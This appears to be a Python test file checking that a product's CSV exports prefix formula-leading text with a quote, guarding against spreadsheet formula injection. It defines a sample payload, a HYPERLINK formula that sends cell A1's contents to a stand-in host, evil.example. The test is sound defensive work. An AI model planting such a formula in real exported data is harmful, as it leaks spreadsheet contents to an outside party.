"""Every CSV the product writes keeps formula-leading text as text: the trend export (point names
come from enterprises' sheets) as the review's exports do, with one function."""

from __future__ import annotations

import csv

import numpy as np

from console.domain.cell_text import csv_text
from console.services.review import export
from widgets.trends.export import write_csv

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_formula_leading_text_is_kept_as_text():
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(f"{lead}1+1") == f"'{lead}1+1"
    assert csv_text("GT-101") == "GT-101" and csv_text("") == ""
    assert export._csv_cell("s", EVIL) == csv_text(EVIL)  # the review's exports use the same function
    assert export._csv_cell("d", -3.25) == "-3.2"  # numbers stay numbers


def test_the_trend_export_writes_point_names_as_text(tmp_path):
    path = tmp_path / "trend.csv"
    series = [{"enterprise": "@ENT", "point": "+GT-1", "name": EVIL, "unit": "-%LEL",
               "times": np.array([1_717_200_000.0]), "values": np.array([-5.5])}]
    assert write_csv(path, ["time", "enterprise", "point", "name", "unit", "value", "min", "max"], series) == 1
    with open(path, encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    assert row[1:5] == ["'@ENT", "'+GT-1", "'" + EVIL, "'-%LEL"]
    assert row[5] == "-5.5"  # a negative reading is still a number
